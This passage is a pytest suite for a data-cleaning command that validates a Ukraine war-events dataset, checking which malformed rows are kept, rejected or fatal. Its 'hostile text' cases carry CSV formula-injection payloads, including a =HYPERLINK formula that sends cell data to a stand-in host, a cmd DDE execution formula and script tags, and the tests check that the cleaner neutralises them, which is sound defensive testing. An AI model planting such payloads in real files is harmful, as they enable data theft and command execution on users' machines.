"""A corpus of bad input, each case run through the whole clean (`python -m analysis clean`, in process).

Every case mutates one cell or one file of a tiny valid raw folder (tests/conftest.py) and says what must
happen: the row is kept with the right value, or it is in rejects.parquet with the right table, file,
line, column, value and a reason naming what was expected; or the clean stops (exit 2) with one message
naming file, line and column, and writes nothing. For every clean, rows read = kept + rejected per table.

To keep the suite fast, cases that touch only their own rows (or, for file cases, different tables) share
one clean per group; cases with group=None get a clean of their own.
"""

from __future__ import annotations

import contextlib
import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest

from analysis import cli
from analysis.clean import write
from analysis.registry.schema import RAW_TABLES

KEYS = {t.name: t.key for t in RAW_TABLES}
SRC1, SRC2, SRC3, SRC4 = (f"src_000000000{i}" for i in range(1, 5))


# --- running a clean ------------------------------------------------------------------------------------
@dataclass
class Run:
    raw: object  # conftest.RawDir
    out: Path
    code: int
    stdout: str
    stderr: str
    lines_of: dict[str, dict[str, int]] = field(default_factory=dict)  # table -> id -> line (explicit)
    _cache: dict = field(default_factory=dict)

    def parquet(self, name: str) -> pd.DataFrame:
        if ("pq", name) not in self._cache:
            self._cache["pq", name] = pd.read_parquet(self.out / f"{name}.parquet")
        return self._cache["pq", name]

    def csv(self, name: str) -> pd.DataFrame:
        if ("csv", name) not in self._cache:
            self._cache["csv", name] = pd.read_csv(self.out / f"{name}.csv", dtype=str, keep_default_na=False)
        return self._cache["csv", name]

    @property
    def rejects(self) -> pd.DataFrame:
        return self.parquet("rejects")

    def printed(self) -> dict[str, tuple[int, int, int]]:
        """The per-table read/kept/rejected table the CLI prints."""
        rows = {}
        for line in self.stdout.splitlines():
            parts = line.split()
            if len(parts) == 4 and parts[0] in KEYS:
                rows[parts[0]] = tuple(int(p.replace(",", "")) for p in parts[1:])
        return rows

    def line(self, table: str, row_id: str) -> int:
        """Physical line of the last raw row with this id (files without embedded newlines or blank lines)."""
        if row_id in self.lines_of.get(table, {}):
            return self.lines_of[table][row_id]
        ids = [r[0] for r in self.raw.rows(table)]
        return len(ids) - ids[::-1].index(row_id) + 1


def run_clean(raw, out: Path) -> Run:
    raw.write()
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        code = cli.main(["clean", "--raw", str(raw.path), "--out", str(out)])
    return Run(raw, out, code, stdout.getvalue(), stderr.getvalue())


# --- what a case expects ----------------------------------------------------------------------------------
ANY = object()


@dataclass
class Rejected:
    """The row is in rejects.parquet with this table, file, line, column, value and reason."""

    table: str
    row_id: str | None
    column: str
    value: object
    reason: str
    line: int | None = None

    def where(self, run: Run) -> int:
        return self.line if self.line is not None else run.line(self.table, self.row_id)

    def __call__(self, run: Run) -> None:
        rej = run.rejects
        mine = rej[(rej["table"] == self.table) & (rej["line"] == self.where(run))]
        assert len(mine) == 1, f"expected one reject for {self}; rejects:\n{rej.to_string()}"
        r = mine.iloc[0]
        assert r["file"] == f"{self.table}.csv"
        if self.row_id is None:
            assert pd.isna(r["row_id"])
        else:
            assert r["row_id"] == self.row_id
        assert r["column"] == self.column, r.to_dict()
        if self.value is None:
            assert pd.isna(r["value"]), r.to_dict()
        elif self.value is not ANY:
            assert r["value"] == self.value, r.to_dict()
        assert self.reason in r["reason"], r.to_dict()
        if self.row_id:
            kept_ids = run.parquet(self.table)[KEYS[self.table]].tolist()
            # a rejected duplicate leaves the first row with that id in place, nothing else
            assert kept_ids.count(self.row_id) == (1 if "already used" in r["reason"] else 0)


@dataclass
class Kept:
    """The row is in the processed table (once, not in rejects) with these values."""

    table: str
    row_id: str
    values: dict

    def __call__(self, run: Run) -> None:
        df = run.parquet(self.table)
        rows = df[df[KEYS[self.table]] == self.row_id]
        assert len(rows) == 1, f"{self.table} {self.row_id} not kept; rejects:\n{run.rejects.to_string()}"
        row = rows.iloc[0]
        rej = run.rejects
        assert not ((rej["table"] == self.table) & (rej["line"] == row["raw_line"])).any()
        for col, want in self.values.items():
            got = row[col]
            if want is None:
                assert pd.isna(got), (col, got)
            else:
                assert got == want, (col, got, want)


def rejected(table, row_id, column, value, reason, line=None) -> Rejected:
    return Rejected(table, row_id, column, value, reason, line)


def kept(table: str, row_id: str, **values) -> Kept:
    return Kept(table, row_id, values)


def csv_cell(table: str, row_id: str, column: str, want: str):
    """The CSV twin holds `want` in this cell."""
    def check(run: Run) -> None:
        df = run.csv(table)
        rows = df[df[KEYS[table]] == row_id]
        assert len(rows) == 1
        assert rows.iloc[0][column] == want, (rows.iloc[0][column], want)
    return check


def note(text: str):
    def check(run: Run) -> None:
        assert text in run.stdout, run.stdout
    return check


def fatal(file: str, column: str | None, expected: str):
    def check(run: Run) -> None:
        assert run.code == 2, (run.code, run.stdout, run.stderr)
        lines = run.stderr.strip().splitlines()
        assert len(lines) == 1, run.stderr
        where = f"error: {file}, line 1" + (f", column '{column}'" if column else "")
        assert lines[0].startswith(where), lines[0]
        assert expected in lines[0], lines[0]
        assert run.stdout == ""
        assert not run.out.exists() or not any(run.out.iterdir()), sorted(run.out.iterdir())
    return check


@dataclass
class Case:
    id: str
    mutate: Callable
    checks: list[Callable]
    group: str | None = "values"


CASES: list[Case] = []


def case(id: str, *checks: Callable, group: str | None = "values"):
    def deco(fn):
        CASES.append(Case(id, fn, list(checks), group))
        return fn
    return deco


def bad(raw, table: str, base: str, new_id: str, **cells) -> None:
    """Add a copy of row `base` under `new_id` with some cells changed."""
    raw.copy_row(table, base, new_id)
    for col, v in cells.items():
        raw.set(table, new_id, col, v)


def new_source(raw, sid: str, **cells) -> None:
    bad(raw, "sources", SRC4, sid, url=f"https://example.org/case/{sid}", **cells)


# --- gazetteer ---------------------------------------------------------------------------------------------
@case("gaz-outside-ukraine", rejected("gazetteer", "gn:1", "latitude", "55.75583", "a value from 44.0 to 52.5"))
def _(raw):
    bad(raw, "gazetteer", "gn:712451", "gn:1", name="Moscow", latitude="55.75583", longitude="37.6173")


@case("gaz-swapped-lat-lon", rejected("gazetteer", "gn:2", "latitude", "36.85944", "look swapped"))
def _(raw):
    bad(raw, "gazetteer", "gn:712451", "gn:2", latitude="36.85944", longitude="49.46230")


@case("gaz-decimal-comma", rejected("gazetteer", "gn:3", "latitude", "49,4623", "a number for 'latitude'"))
def _(raw):
    bad(raw, "gazetteer", "gn:712451", "gn:3", latitude="49,4623")


@case("gaz-longitude-outside", rejected("gazetteer", "gn:4", "longitude", "41.5", "a value from 22.0 to 40.3"))
def _(raw):
    bad(raw, "gazetteer", "gn:712451", "gn:4", longitude="41.5")


@case("gaz-duplicate-id", rejected("gazetteer", "gn:712451", "place_id", "gn:712451", "already used at line 4"),
      kept("gazetteer", "gn:712451", name="Balakliia"))
def _(raw):
    raw.add("gazetteer", ["gn:712451", "712451", "Balakliia II", "", "", "", "village", "", "Kharkiv", "49.1",
                          "36.1", "1", "GeoNames"])


@case("gaz-unknown-place-type", rejected("gazetteer", "gn:5", "place_type", "hamlet", "one of: city, town"))
def _(raw):
    bad(raw, "gazetteer", "gn:712451", "gn:5", place_type="hamlet")


@case("gaz-geo-prec-out-of-range", rejected("gazetteer", "gn:6", "geo_prec", "9", "a value from 1 to 6"))
def _(raw):
    bad(raw, "gazetteer", "gn:712451", "gn:6", geo_prec="9")


# --- sources -------------------------------------------------------------------------------------------------
@case("src-bad-url", rejected("sources", "src_bad_url", "url", "www.example.org/x", "an http(s) URL"))
def _(raw):
    new_source(raw, "src_bad_url")
    raw.set("sources", "src_bad_url", "url", "www.example.org/x")


@case("src-javascript-url", rejected("sources", "src_js_url", "url", "javascript:alert(1)", "an http(s) URL"))
def _(raw):
    new_source(raw, "src_js_url")
    raw.set("sources", "src_js_url", "url", "javascript:alert(1)")


@case("src-impossible-published",
      rejected("sources", "src_bad_pub", "published", "2022-02-30", "a date YYYY-MM-DD that exists"))
def _(raw):
    new_source(raw, "src_bad_pub", published="2022-02-30")


@case("src-published-not-iso",
      rejected("sources", "src_dotted_pub", "published", "19.09.2022", "a date YYYY-MM-DD that exists"))
def _(raw):
    new_source(raw, "src_dotted_pub", published="19.09.2022")


@case("src-future-published",
      rejected("sources", "src_future", "published", "2099-01-01", "a publication date not in the future"))
def _(raw):
    new_source(raw, "src_future", published="2099-01-01")


@case("src-prewar-published",
      rejected("sources", "src_prewar", "published", "2021-12-31", "a publication date on or after 2022-02-24"))
def _(raw):
    new_source(raw, "src_prewar", published="2021-12-31")


@case("src-same-url-twice", rejected("sources", "src_same_url", "url", "https://example.org/news/1", "each URL once"))
def _(raw):
    new_source(raw, "src_same_url")
    raw.set("sources", "src_same_url", "url", "https://example.org/news/1")


@case("src-unknown-source-type", rejected("sources", "src_blog", "source_type", "blog", "one of: official_channel"))
def _(raw):
    new_source(raw, "src_blog", source_type="blog")


@case("src-missing-outlet",
      rejected("sources", "src_no_outlet", "outlet", None, "a value for required column 'outlet'"))
def _(raw):
    new_source(raw, "src_no_outlet", outlet="   ")


@case("src-bad-accessed", rejected("sources", "src_bad_acc", "accessed", "last week", "a date YYYY-MM-DD"))
def _(raw):
    new_source(raw, "src_bad_acc", accessed="last week")


@case("src-vocab-case-folded", kept("sources", "src_folded", source_type="news_agency", date_basis="page"))
def _(raw):
    new_source(raw, "src_folded", source_type=" News Agency ", date_basis="PAGE")


# --- events ----------------------------------------------------------------------------------------------
@case("ev-impossible-date", rejected("events", "EV-1001", "date_reported", "31/02/2022", "no such day"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1001", date_reported="31/02/2022")


@case("ev-prewar-date", rejected("events", "EV-1002", "date_reported", "2021-05-01", "before the full-scale invasion"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1002", date_reported="2021-05-01")


@case("ev-future-date",
      rejected("events", "EV-1003", "date_reported", "2022-12-01", "after its report's publication date"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1003", date_reported="2022-12-01")


@case("ev-end-before-start",
      rejected("events", "EV-1004", "date_reported", "23-22 September", "ends before it starts"))
def _(raw):
    bad(raw, "events", "EV-0003", "EV-1004", date_reported="23-22 September")


@case("ev-unrecognised-date",
      rejected("events", "EV-1005", "date_reported", "when the moon was full", "unrecognised date phrase"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1005", date_reported="when the moon was full")


@case("ev-unknown-place",
      rejected("events", "EV-1006", "place_reported", "Atlantis", "place 'Atlantis' is not in the gazetteer"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1006", place_reported="Atlantis", oblast_reported="")


@case("ev-unknown-oblast",
      rejected("events", "EV-1007", "oblast_reported", "Narnia oblast", "unknown oblast 'Narnia oblast'"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1007", oblast_reported="Narnia oblast")


@case("ev-place-suffix-folded", kept("events", "EV-1008", place_id="gn:712451", place_match="exact"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1008", place_reported="Balakliia village", oblast_reported="")


@case("ev-dangling-source", rejected("events", "EV-1009", "source_id", "src_ffffffffff",
                                     "the id of a source that exists and was kept"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1009", source_id="src_ffffffffff")


@case("ev-duplicate-id", rejected("events", "EV-0002", "event_id", "EV-0002", "a unique id; already used at line 3"),
      kept("events", "EV-0002", event_type="missile_strike"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-0002", damage="a different attack with a reused id")


@case("ev-same-report-twice", rejected("events", "EV-1010", "event_id", "EV-1010",
                                       "a row that is not a copy of EV-0001 (same report coded twice)"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1010")


@case("ev-same-report-twice-note-differs", rejected("events", "EV-1011", "event_id", "EV-1011",
                                                    "not a copy of EV-0003"))
def _(raw):
    bad(raw, "events", "EV-0003", "EV-1011", coder_note="coded again by a second coder")


@case("ev-unknown-event-type", rejected("events", "EV-1012", "event_type", "bombing", "one of: shelling"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1012", event_type="bombing")


@case("ev-unknown-target-in-list",
      rejected("events", "EV-1013", "target_type", "residential;spaceport", "one of: residential"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1013", target_type="residential;spaceport")


@case("ev-missing-event-type",
      rejected("events", "EV-1014", "event_type", None, "a value for required column 'event_type'"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1014", event_type="")


@case("ev-missing-claim-by", rejected("events", "EV-1015", "claim_by", None, "who makes the claim"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1015", claim_by="")


@case("ev-vocab-folded", kept("events", "EV-1016", event_type="missile_strike", target_type="residential;energy",
                              weapon="unknown", confirmed="unknown"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1016", event_type=" Missile Strike ", target_type="Residential ; ENERGY",
        weapon="", confirmed="")


@case("ev-night-of-kept", kept("events", "EV-1017", date_start=pd.Timestamp("2022-09-17"),
                               date_end=pd.Timestamp("2022-09-18"), date_prec=2, date_rule="night_of"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1017", date_reported="у ніч на 18 вересня")


@case("ev-spelling-kept", kept("events", "EV-1018", place_id="gn:703656", place_name="Kupiansk",
                               latitude=49.71003, geo_prec=1, hour=6, time_of_day="morning"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-1018", place_reported="Купянск", oblast_reported="Харківщина",
        time_reported="06:30")


# --- casualties ---------------------------------------------------------------------------------------------
@case("ca-negative-count", rejected("casualties", "CA-1001", "killed", "-3", "a negative count '-3'"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1001", killed="-3")


@case("ca-non-numeric-count", rejected("casualties", "CA-1002", "injured", "lots", "an unrecognised count 'lots'"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1002", injured="lots")


@case("ca-low-above-high", rejected("casualties", "CA-1003", "killed", "7-5", "low is above its high"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1003", killed="7-5")


@case("ca-fewer-than-zero", rejected("casualties", "CA-1004", "killed", "fewer than 0", "a negative count"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1004", killed="fewer than 0")


@case("ca-dangling-event", rejected("casualties", "CA-1005", "event_id", "EV-9999", "that exists and was kept"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1005", event_id="EV-9999")


@case("ca-event-rejected-too", rejected("casualties", "CA-1006", "event_id", "EV-1001", "that exists and was kept"))
def _(raw):
    # EV-1001 exists in the raw file but is rejected (ev-impossible-date): its casualties cannot point at it
    bad(raw, "casualties", "CA-0001", "CA-1006", event_id="EV-1001", killed="3")


@case("ca-no-figures", rejected("casualties", "CA-1007", "killed", None, "a killed or injured figure"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1007", killed="", injured="")


@case("ca-children-exceed-total", rejected("casualties", "CA-1008", "children_killed", "5",
                                           "children counts no larger than the totals"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1008", children_killed="5")


@case("ca-unknown-victim-group", rejected("casualties", "CA-1009", "victim_group", "kids", "one of: civilian"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1009", victim_group="kids")


@case("ca-duplicate-id", rejected("casualties", "CA-0003", "casualty_id", "CA-0003", "already used at line 4"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-0003", killed="9")


@case("ca-about-kept", kept("casualties", "CA-1010", killed_low=54, killed_best=60, killed_high=66,
                            killed_reported="about 60", injured_best=5, status="current"))
def _(raw):
    bad(raw, "casualties", "CA-0002", "CA-1010", killed="about 60", injured="five", children_injured="")


@case("ca-thousands-kept", kept("casualties", "CA-1011", killed_low=1200, killed_best=1200, killed_high=1200,
                                injured_low=441, injured_high=None))
def _(raw):
    bad(raw, "casualties", "CA-0002", "CA-1011", killed="1,200", injured="понад 440", children_injured="",
        figure_type="cumulative")


@case("ca-formula-value-neutralised-in-rejects-csv",
      rejected("casualties", "CA-1012", "killed", "=1+1", "an unrecognised count"))
def _(raw):
    bad(raw, "casualties", "CA-0001", "CA-1012", killed="=1+1")


# --- statements, control, tallies ---------------------------------------------------------------------------
@case("st-country-name", rejected("statements", "ST-1001", "country", "Ukraine", "an ISO 3166 alpha-2 code"))
def _(raw):
    bad(raw, "statements", "ST-0001", "ST-1001", country="Ukraine")


@case("st-unknown-topic", rejected("statements", "ST-1002", "topic", "negotiations;weather", "one of: negotiations"))
def _(raw):
    bad(raw, "statements", "ST-0001", "ST-1002", topic="negotiations;weather")


@case("st-missing-stance", rejected("statements", "ST-1003", "stance", None, "a value for required column 'stance'"))
def _(raw):
    bad(raw, "statements", "ST-0001", "ST-1003", stance="")


@case("st-defaults-kept", kept("statements", "ST-1004", channel="unknown", claim_by="media", confirmed="unknown"))
def _(raw):
    bad(raw, "statements", "ST-0002", "ST-1004", channel="", claim_by="", confirmed="", speaker="Maria Zakharova")


@case("cl-unknown-claim", rejected("control", "CL-1001", "claim", "captured", "one of: took"))
def _(raw):
    bad(raw, "control", "CL-0001", "CL-1001", claim="captured")


@case("cl-unknown-side", rejected("control", "CL-1002", "side", "ukraine", "one of: ua, ru"))
def _(raw):
    bad(raw, "control", "CL-0001", "CL-1002", side="ukraine")


@case("cl-unknown-place", rejected("control", "CL-1003", "place_reported", "Nowhereivka",
                                   "place 'Nowhereivka' is not in the gazetteer"))
def _(raw):
    bad(raw, "control", "CL-0001", "CL-1003", place_reported="Nowhereivka")


@case("ta-unknown-raion", rejected("tallies", "TA-1001", "raion_reported", "Narnia district",
                                   "raion 'Narnia district' is not in the gazetteer"))
def _(raw):
    bad(raw, "tallies", "TA-0001", "TA-1001", raion_reported="Narnia district", oblast_reported="")


@case("ta-bad-settlements", rejected("tallies", "TA-1002", "settlements_shelled", "a great many",
                                     "an unrecognised count"))
def _(raw):
    bad(raw, "tallies", "TA-0001", "TA-1002", settlements_shelled="a great many")


@case("ta-unknown-oblast", rejected("tallies", "TA-1003", "oblast_reported", "Narnia Oblast",
                                    "unknown oblast"))
def _(raw):
    bad(raw, "tallies", "TA-0001", "TA-1003", oblast_reported="Narnia Oblast")


@case("ta-oblast-kept", kept("tallies", "TA-1004", place_id="oskil:oblast-kharkiv", place_match="oblast", geo_prec=4,
                             settlements_shelled_low=24, settlements_shelled_high=99))
def _(raw):
    bad(raw, "tallies", "TA-0001", "TA-1004", oblast_reported="Харьковская область")


# --- hostile text ------------------------------------------------------------------------------------------
SCRIPT = '<script>alert("x")</script>'
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'


@case("hostile-script-verbatim", kept("events", "EV-0003", coder_note=SCRIPT),
      csv_cell("events", "EV-0003", "coder_note", SCRIPT))
def _(raw):
    raw.set("events", "EV-0003", "coder_note", SCRIPT)


@case("hostile-hyperlink", kept("events", "EV-2001", damage=HYPERLINK),
      csv_cell("events", "EV-2001", "damage", "'" + HYPERLINK))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2001", damage=HYPERLINK)


@case("hostile-plus", kept("events", "EV-2002", claimant="+cmd"), csv_cell("events", "EV-2002", "claimant", "'+cmd"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2002", claimant="+cmd")


@case("hostile-at", kept("events", "EV-2003", actor="@SUM(1)"), csv_cell("events", "EV-2003", "actor", "'@SUM(1)"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2003", actor="@SUM(1)")


@case("hostile-minus", kept("events", "EV-2004", weapon_detail="-2+3"),
      csv_cell("events", "EV-2004", "weapon_detail", "'-2+3"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2004", weapon_detail="-2+3")


@case("plain-minus-kept", kept("events", "EV-2005", weapon_detail="-5"),
      csv_cell("events", "EV-2005", "weapon_detail", "-5"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2005", weapon_detail="-5")


@case("plain-dash-kept", kept("events", "EV-2006", weapon_detail="-"),
      csv_cell("events", "EV-2006", "weapon_detail", "-"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2006", weapon_detail="-")


@case("phone-number-kept", kept("events", "EV-2007", weapon_detail="+380 57 700-00-00"),
      csv_cell("events", "EV-2007", "weapon_detail", "+380 57 700-00-00"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2007", weapon_detail="+380 57 700-00-00")


@case("quoted-formula-stays-distinct", kept("events", "EV-2008", weapon_detail="'=1+1"),
      csv_cell("events", "EV-2008", "weapon_detail", "''=1+1"))
def _(raw):
    bad(raw, "events", "EV-0001", "EV-2008", weapon_detail="'=1+1")


@case("hostile-coder-note-formula", kept("casualties", "CA-0002", coder_note="=cmd|' /C calc'!A0"),
      csv_cell("casualties", "CA-0002", "coder_note", "'=cmd|' /C calc'!A0"))
def _(raw):
    raw.set("casualties", "CA-0002", "coder_note", "=cmd|' /C calc'!A0")


@case("hostile-source-title", kept("sources", "src_formula", title="=1+1"),
      csv_cell("sources", "src_formula", "title", "'=1+1"))
def _(raw):
    new_source(raw, "src_formula", title="=1+1")


@case("hostile-statement-summary", kept("statements", "ST-2001", summary="@import evil"),
      csv_cell("statements", "ST-2001", "summary", "'@import evil"))
def _(raw):
    bad(raw, "statements", "ST-0001", "ST-2001", summary="@import evil")


# --- whole files (group "files1": one messy file per table) -------------------------------------------------
@case("file-bom", kept("gazetteer", "gn:703656", name="Kupiansk"), kept("events", "EV-0001", place_id="gn:703656"),
      group="files1")
def _(raw):
    raw.overrides["gazetteer"] = b"\xef\xbb\xbf" + raw.text("gazetteer").encode("utf-8")


@case("file-cp1251", kept("sources", SRC2, outlet="Укрінформ", title="Обстріл Чугуєва"),
      note("sources.csv: read as cp1251"), group="files1")
def _(raw):
    raw.overrides["sources"] = raw.text("sources").encode("cp1251")


@case("file-crlf", kept("casualties", "CA-0001", killed_best=2, coder_note=None), kept("casualties", "CA-0003"),
      group="files1")
def _(raw):
    raw.overrides["casualties"] = raw.text("casualties", newline="\r\n").encode("utf-8")


@case("file-semicolon", kept("statements", "ST-0001", topic="negotiations;war_end",
                             summary="Talks only after Russian troops leave."), group="files1")
def _(raw):
    raw.overrides["statements"] = raw.text("statements", delimiter=";").encode("utf-8")


@case("file-quoted-newline", kept("events", "EV-0001", coder_note="first line\nsecond line, with a comma"),
      rejected("events", "EV-3001", "date_reported", "31/02/2022", "no such day", line=6), group="files1")
def _(raw):
    raw.set("events", "EV-0001", "coder_note", "first line\nsecond line, with a comma")
    bad(raw, "events", "EV-0002", "EV-3001", date_reported="31/02/2022")


@case("file-blank-lines", kept("tallies", "TA-0002", killed_best=1),
      rejected("tallies", "TA-3001", "killed", "-1", "a negative count", line=7), group="files1")
def _(raw):
    bad(raw, "tallies", "TA-0001", "TA-3001", killed="-1")
    lines = raw.text("tallies").splitlines()
    raw.overrides["tallies"] = "\n".join([lines[0], "", lines[1], "", "", lines[2], lines[3],
                                          ""]).encode("utf-8")


@case("file-header-case", kept("control", "CL-0001", claim="holds", place_id="gn:703656"), group="files1")
def _(raw):
    hdr = raw.header("control")
    hdr[:] = [" Claim ID ", "SOURCE_ID", "Date Reported", "Place-Reported", "raion_reported", "Oblast_Reported",
              "Claim", "SIDE", "claimant", "Claim By", "confirmed", "Coder Note"]


# --- whole files (group "files2") ---------------------------------------------------------------------------
@case("file-extra-column", kept("events", "EV-0002", event_type="missile_strike"),
      note("events.csv: ignored columns not in the codebook: reviewer, second_check"), group="files2")
def _(raw):
    raw.header("events").extend(["Reviewer", "second check"])
    for r in raw.rows("events"):
        r.extend(["ana", "ok"])


@case("file-alias-columns", kept("casualties", "CA-0001", date_rule="weekday", place_id="gn:703656",
                                 coder_note="aliased note"), group="files2")
def _(raw):
    raw.set("casualties", "CA-0001", "coder_note", "aliased note")
    hdr = raw.header("casualties")
    for old, new in (("date_reported", "Date"), ("place_reported", "Settlement"), ("coder_note", "note"),
                     ("oblast_reported", "Region")):
        hdr[hdr.index(old)] = new


@case("file-missing-optional-column", kept("statements", "ST-0001", role=None, speaker="Mykhailo Podolyak"),
      group="files2")
def _(raw):
    i = raw.header("statements").index("role")
    for r in [raw.header("statements"), *raw.rows("statements")]:
        del r[i]


@case("file-ragged-row", rejected("control", None, "(row)", ANY, "12 cells per row, as in the header; got 13", line=3),
      rejected("control", None, "(row)", "CL-3002,src_0000000001", "12 cells per row, as in the header; got 2",
               line=5),
      kept("control", "CL-0001"), kept("control", "CL-0002"), group="files2")
def _(raw):
    rows = raw.rows("control")
    rows.insert(1, [*raw.row("control", "CL-0001")[:], "surplus cell"])
    rows[1][0] = "CL-3001"
    rows.append(["CL-3002", SRC1])


@case("file-header-only", group="files2")
def _(raw):
    raw.rows("tallies").clear()


@case("file-tab-separated", kept("gazetteer", "gn:710374", latitude=49.83538), group="files2")
def _(raw):
    raw.overrides["gazetteer"] = raw.text("gazetteer", delimiter="\t").encode("utf-8")


# --- cases that need a clean of their own -----------------------------------------------------------------
@case("cascade-rejected-source",
      rejected("sources", SRC3, "published", "2022-02-30", "a date YYYY-MM-DD that exists"),
      rejected("events", "EV-0003", "source_id", SRC3, "the id of a source that exists and was kept"),
      rejected("casualties", "CA-0003", "source_id", SRC3, "the id of a source that exists and was kept"),
      rejected("control", "CL-0002", "source_id", SRC3, "the id of a source that exists and was kept"),
      kept("events", "EV-0001"), group=None)
def _(raw):
    raw.set("sources", SRC3, "published", "2022-02-30")


@case("cascade-header-only-events",
      rejected("casualties", "CA-0001", "event_id", "EV-0001", "that exists and was kept"),
      rejected("casualties", "CA-0002", "event_id", "EV-0002", "that exists and was kept"),
      kept("casualties", "CA-0003", incident_id="INC-CA-0003"), group=None)
def _(raw):
    raw.rows("events").clear()


@case("fatal-empty-file", fatal("gazetteer.csv", None, "a header row with the columns place_id"), group=None)
def _(raw):
    raw.overrides["gazetteer"] = b""


@case("fatal-empty-file-bom-only", fatal("tallies.csv", None, "a header row"), group=None)
def _(raw):
    raw.overrides["tallies"] = b"\xef\xbb\xbf\r\n"


@case("fatal-missing-required-column", fatal("events.csv", "event_type", "a required column 'event_type'"),
      group=None)
def _(raw):
    i = raw.header("events").index("event_type")
    for r in [raw.header("events"), *raw.rows("events")]:
        del r[i]


@case("fatal-renamed-required-column", fatal("sources.csv", "published", "a required column 'published'"),
      group=None)
def _(raw):
    hdr = raw.header("sources")
    hdr[hdr.index("published")] = "date_published"


@case("fatal-duplicate-column", fatal("control.csv", "Side", "duplicate of 'side'"), group=None)
def _(raw):
    raw.header("control").append("Side")
    for r in raw.rows("control"):
        r.append("ru")


@case("fatal-missing-file", group=None)
def _(raw):
    raw.write()
    (raw.path / "statements.csv").unlink()
    raw.tables.pop("statements")


# --- the runs ----------------------------------------------------------------------------------------------------
GROUPS = sorted({c.group for c in CASES if c.group})


@pytest.fixture(scope="module")
def runs(tmp_path_factory, make_raw):
    cache: dict[str, Run] = {}

    def get(c: Case) -> Run:
        key = c.group or c.id
        if key not in cache:
            base = tmp_path_factory.mktemp(key)
            raw = make_raw(base / "raw")
            for other in CASES:
                if (other.group or other.id) == key:
                    other.mutate(raw)
            cache[key] = run_clean(raw, base / "out")
        return cache[key]

    return get


def check_accounting(run: Run) -> None:
    """Rows read = kept + rejected for every table, in the CLI's table, the parquet files and the raw files."""
    assert run.code == 0, run.stderr
    printed = run.printed()
    assert sorted(printed) == sorted(KEYS)
    rej = run.rejects
    for t, (read, kept_n, rejected_n) in printed.items():
        assert read == kept_n + rejected_n, t
        assert kept_n == len(run.parquet(t)), t
        assert rejected_n == int((rej["table"] == t).sum()), t
        if t not in run.raw.overrides:
            assert read == len(run.raw.rows(t)), t
    assert not (set(rej["table"]) - set(KEYS))


@pytest.mark.parametrize("c", [c for c in CASES if c.checks], ids=lambda c: c.id)
def test_case(runs, c: Case):
    run = runs(c)
    if run.code == 0:
        check_accounting(run)
    for check in c.checks:
        check(run)


@pytest.mark.parametrize("group", GROUPS)
def test_group_rejects_nothing_it_should_not(runs, group):
    """A group's clean rejects exactly the rows its cases name, and no others (no knock-on rejects)."""
    cases = [c for c in CASES if c.group == group]
    run = runs(cases[0])
    check_accounting(run)
    want = sorted((chk.table, chk.where(run)) for c in cases for chk in c.checks if isinstance(chk, Rejected))
    got = sorted(zip(run.rejects["table"], run.rejects["line"].astype(int), strict=True))
    assert got == want


def test_header_only_table_is_empty_but_written(runs):
    run = runs(next(c for c in CASES if c.id == "file-header-only"))
    assert run.printed()["tallies"] == (0, 0, 0)
    df = run.parquet("tallies")
    assert len(df) == 0 and "settlements_shelled_best" in df.columns


def test_missing_file_is_fatal(runs):
    run = runs(next(c for c in CASES if c.id == "fatal-missing-file"))
    assert run.code == 2
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and "statements.csv" in lines[0] and "a raw file statements.csv" in lines[0]
    assert not run.out.exists() or not any(run.out.iterdir())


def test_rejects_csv_twin_neutralises_values(runs):
    run = runs(next(c for c in CASES if c.id == "ca-formula-value-neutralised-in-rejects-csv"))
    pq = run.rejects[run.rejects["row_id"] == "CA-1012"]
    csv = run.csv("rejects")
    csv = csv[csv["row_id"] == "CA-1012"]
    assert pq["value"].tolist() == ["=1+1"]
    assert csv["value"].tolist() == ["'=1+1"]
    assert csv["line"].tolist() == [str(run.line("casualties", "CA-1012"))]


def test_hostile_text_only_changes_the_csv_twin(runs):
    """Across every table of the values clean: CSV cells differ from Parquet only by a leading ' on formulas."""
    run = runs(next(c for c in CASES if c.group == "values"))
    for t in [*KEYS, "incidents", "rejects"]:
        pq, csv = run.parquet(t), run.csv(t)
        assert list(pq.columns) == list(csv.columns)
        assert len(pq) == len(csv)
        for col in pq.columns:
            if not pd.api.types.is_string_dtype(pq[col]):
                continue
            p = pq[col].fillna("").astype("object").tolist()
            c = csv[col].tolist()
            plain = re.compile(write.PLAIN_SIGNED)
